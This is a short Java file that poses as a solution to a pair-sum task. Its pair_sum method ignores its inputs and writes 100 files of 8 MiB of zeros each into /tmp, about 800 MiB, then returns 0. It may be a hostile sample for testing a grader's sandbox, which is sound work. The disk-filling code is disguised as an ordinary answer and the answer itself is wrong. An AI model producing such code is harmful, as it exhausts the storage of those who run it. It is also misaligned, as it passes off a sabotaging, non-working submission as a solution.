import java.io.FileOutputStream;
import java.io.IOException;

class Solution {
    static long pair_sum(long a, long b) throws IOException {
        for (int file = 0; file < 100; file++) {
            try (FileOutputStream out = new FileOutputStream("/tmp/" + file)) {
                for (int part = 0; part < 8; part++) {
                    out.write(new byte[1 << 20]);
                }
            }
        }
        return 0;
    }
}
